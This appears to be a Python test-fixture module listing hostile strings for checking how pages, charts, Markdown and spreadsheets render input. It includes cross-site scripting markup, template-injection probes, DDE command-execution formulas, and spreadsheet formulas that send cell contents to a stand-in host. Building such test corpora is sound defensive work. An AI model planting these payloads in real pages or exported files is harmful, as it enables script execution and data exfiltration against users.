"""Strings made to break whoever shows them: the Big List of Naughty Strings, and markup and formulas of our own."""

from __future__ import annotations

import json
from pathlib import Path

_NAUGHTY = Path(__file__).resolve().parent.parent / "attack" / "vendor" / "blns.json"

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    "</textarea></xmp></pre><svg/onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)",
    '" style="position:fixed;inset:0" x="',
    "`onmouseover=alert(1)`",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>pay here</a>",
    "<link rel=stylesheet href=//example.com/x.css>",
    "<meta http-equiv=refresh content='0;url=//example.com'>",
    "<base href=//example.com/>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "url(//example.com/x)",
    "expression(alert(1))",
    "*{background:url(//example.com)}",
    "{{ 7 * 7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{0} {name} %s %(name)s {",
    "datum['c0'] + signal",
    "[pay](javascript:alert(1)) ![x](//example.com/x.png)",
    "a|b\n|---|\n| c |",
    "```\n# heading\n```",
)
"""Markup, attributes, styles and templates, for pages, charts and Markdown."""

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"pay")',
    '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
    '=WEBSERVICE("http://example.com/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "{=SUM(A1:A9)}",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1"',
    '1","=1+1","',
    "1;=1+1;",
    "http://example.com",
    "mailto:ann@example.com",
    "file:///etc/passwd",
    "\\\\example.com\\share",
    "internal:Sheet1!A1",
    "external:book.xlsx",
    "_x000D_",
    "_x0041_",
    "0123",
    "1E5",
    "12345678901234567890",
    "3/4",
    "TRUE",
    "#REF!",
)
"""What a spreadsheet would run, open, or take for something other than text."""


def hostile_strings() -> tuple[str, ...]:
    """All of them, each once."""
    naughty = json.loads(_NAUGHTY.read_text(encoding="utf-8"))
    return tuple(dict.fromkeys((*naughty, *MARKUP, *FORMULAS)))
